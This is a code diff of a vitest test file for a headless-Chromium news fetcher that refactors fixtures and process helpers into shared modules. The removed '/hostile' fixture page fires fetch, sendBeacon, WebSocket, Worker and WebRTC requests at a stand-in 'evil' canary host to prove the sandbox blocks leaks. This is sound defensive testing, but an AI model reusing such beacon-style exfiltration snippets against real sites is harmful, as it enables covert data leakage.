@@ -1,31 +1,30 @@
-import { execFileSync } from "node:child_process";
 import { createSocket, type Socket } from "node:dgram";
-import { readFileSync } from "node:fs";
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
 import { type BrowserPool, createBrowser } from "../../../fetch/browser.ts";
-import type { BrowserUser } from "../../../fetch/browser-launch.ts";
 import type { Rendered } from "../../../fetch/browser-turn.ts";
 import { decodeText } from "../../../fetch/charset.ts";
 import { createGuard, type Guard } from "../../../fetch/guard.ts";
 import { type Proxy, startProxy } from "../../../fetch/proxy.ts";
 import { RetryLater } from "../../../model/failure.ts";
 import { isSkipped, type Skipped } from "../../../model/skipped.ts";
+import {
+  browserPids,
+  chromiumPids,
+  commandOf,
+  statusOf,
+  systemUser,
+} from "../../helpers/chromium.ts";
 import { type Loopback, listen } from "../../helpers/loopback.ts";
+import { listenAsSite } from "../../helpers/odd-site.ts";
 
-const NAME = "newsgather-browser";
 const executablePath = process.env["NEWSGATHER_CHROMIUM"] ?? "/usr/bin/chromium";
-const text = "The city council of Tartu opened its data portal. ".repeat(30);
-const app = `<!doctype html><title>App</title><div id=root></div><script>
-  fetch("/story.json").then(r => r.json()).then(s => { root.innerHTML = "<article><h1>" + s.title + "</h1><p>" + s.text + "</p></article>"; });
-</script><img src="/photo.jpg"><link rel=stylesheet href="/style.css">`;
-
 let site: Loopback;
 let other: Loopback;
 let canary: Loopback;
 let guard: Guard;
 let proxy: Proxy;
 let browser: BrowserPool;
-let asked: string[] = [];
+const asked: string[] = [];
 let packets: Socket;
 let packetCount = 0;
 
@@ -36,60 +35,8 @@ beforeAll(async () => {
   packets = createSocket("udp4").on("message", () => packetCount++);
   await new Promise<void>((done) => packets.bind(canary.port, "127.0.0.1", done));
   other = await listen("127.1.9.4", (_, response) => response.end("<p>other"));
-  const evil = `127.0.0.1:${canary.port}`;
-  const pages: Record<string, string> = {
-    "/app": app,
-    "/plain": `<title>Plain</title><p>${text}`,
-    "/loop": "<p>x</p><script>setTimeout(() => { for(;;); }, 50)</script>",
-    "/dialog": `<script>alert(1); confirm(2);</script><p>${text}`,
-    "/popup": `<script>for (let i = 0; i < 3; i++) open("/plain?popup=" + i);</script><p>${text}`,
-    "/leaves": `<script>location.href = "/plain?left"</script><p>One moment`,
-    "/wants-away": `<p>${text}<script>location.href = "/plain?left"</script>`,
-    "/hostile": `<img src="http://${evil}/img"><iframe src="http://${evil}/frame"></iframe>
-      <iframe src="http://localhost:${canary.port}/"></iframe><script src="http://[::1]:${canary.port}/"></script>
-      <img src="/bounce.img"><script>
-      fetch("http://${evil}/fetch").catch(() => {}); navigator.sendBeacon("http://${evil}/beacon", "x");
-      new WebSocket("ws://${evil}/ws"); new EventSource("http://${evil}/es");
-      fetch("http://2130706433:${canary.port}/").catch(() => {}); fetch("/bounce").catch(() => {});
-      new Worker(URL.createObjectURL(new Blob(['fetch("http://${evil}/worker").catch(() => {})'])));
-      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${evil}" }] });
-      peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-      </script><p>${text}`,
-  };
-  site = await listen("127.1.9.3", (request, response) => {
-    const url = request.url ?? "";
-    asked.push(url);
-    const page = pages[url.split("?")[0] ?? ""];
-    if (url === "/story.json") {
-      setTimeout(() => response.end(JSON.stringify({ title: "Portal opened", text })), 300);
-      return;
-    }
-    if (url.startsWith("/bounce"))
-      response.writeHead(302, { location: `http://${evil}${url}` }).end();
-    else if (url === "/moved") response.writeHead(301, { location: "/plain" }).end();
-    else if (url === "/away") response.writeHead(302, { location: `${other.origin}/x` }).end();
-    else if (url === "/to-canary") response.writeHead(302, { location: `http://${evil}/x` }).end();
-    else if (url === "/gone")
-      response.writeHead(410, { "content-type": "text/html" }).end("<p>gone");
-    else if (url === "/file") {
-      response.writeHead(200, {
-        "content-disposition": "attachment",
-        "content-type": "application/zip",
-      });
-      response.end("PK");
-    } else if (url === "/endless") {
-      response.writeHead(200, { "content-type": "text/html" });
-      response.write(`<p>${text}`);
-      const timer = setInterval(() => response.write("<!-- -->"), 100);
-      response.on("close", () => clearInterval(timer));
-    } else if (url === "/cp1251") {
-      response.setHeader("content-type", "text/html; charset=windows-1251");
-      response.end(
-        Buffer.concat([Buffer.from("<p>"), Buffer.from("cae0e7e0edfc", "hex"), Buffer.from(text)]),
-      );
-    } else if (page === undefined) response.writeHead(404).end();
-    else response.setHeader("content-type", "text/html; charset=utf-8").end(page);
-  });
+  const targets = { canary: canary.port, away: `${other.origin}/x` };
+  site = await listenAsSite("127.1.9.3", targets, asked);
   const hosts = new Map([
     ["news.example", ["127.1.9.3"]],
     ["evil.example", ["127.0.0.1"]],
@@ -107,9 +54,7 @@ beforeAll(async () => {
 });
 
 afterEach(() => {
-  asked = [];
-  expect(canary.hits()).toBe(0);
-  expect(packetCount).toBe(0);
+  asked.length = 0;
 });
 
 afterAll(async () => {
@@ -227,6 +172,11 @@ describe("where a page may not lead", () => {
   });
 });
 
+test("the canary on our own machine heard nothing of all this", () => {
+  expect(canary.hits()).toBe(0);
+  expect(packetCount).toBe(0);
+});
+
 describe("life of the browser", () => {
   test("a page in an endless loop ends its turn, the next turn is fine", async () => {
     await expect(render("/loop")).rejects.toMatchObject({ name: "RetryLater", reason: "browser" });
@@ -280,48 +230,3 @@ describe("life of the browser", () => {
     await turn.close();
   });
 });
-
-function commandOf(pid: number): string {
-  try {
-    return readFileSync(`/proc/${pid}/cmdline`, "utf8").replaceAll("\0", " ");
-  } catch {
-    return "";
-  }
-}
-
-function statusOf(pid: number, field: string): string {
-  const status = readFileSync(`/proc/${pid}/status`, "utf8");
-  return new RegExp(`^${field}:[ \\t]*(.*)$`, "m").exec(status)?.[1]?.trim() ?? "missing";
-}
-
-/** All Chromium processes whose browser this process started. */
-function chromiumPids(): number[] {
-  const list = execFileSync("ps", ["-eo", "pid=,ppid="], { encoding: "utf8" });
-  const rows = list
-    .trim()
-    .split("\n")
-    .map((row) => row.trim().split(/\s+/).map(Number));
-  const found = new Set([process.pid]);
-  for (let size = 0; size !== found.size; ) {
-    size = found.size;
-    for (const [pid = 0, parent = 0] of rows) if (found.has(parent)) found.add(pid);
-  }
-  return [...found].filter((pid) => commandOf(pid).includes("--user-data-dir"));
-}
-
-/** The browser processes alone: not renderers, GPU and the like. */
-function browserPids(): number[] {
-  return chromiumPids().filter((pid) => !commandOf(pid).includes("--type="));
-}
-
-function systemUser(): BrowserUser | null {
-  if (process.getuid?.() !== 0) return null;
-  const id = (flag: string) =>
-    Number(execFileSync("id", [flag, NAME], { encoding: "utf8", stdio: "pipe" }));
-  try {
-    id("-u");
-  } catch {
-    execFileSync("useradd", ["--system", "--no-create-home", "--shell", "/usr/sbin/nologin", NAME]);
-  }
-  return { uid: id("-u"), gid: id("-g"), name: NAME };
-}
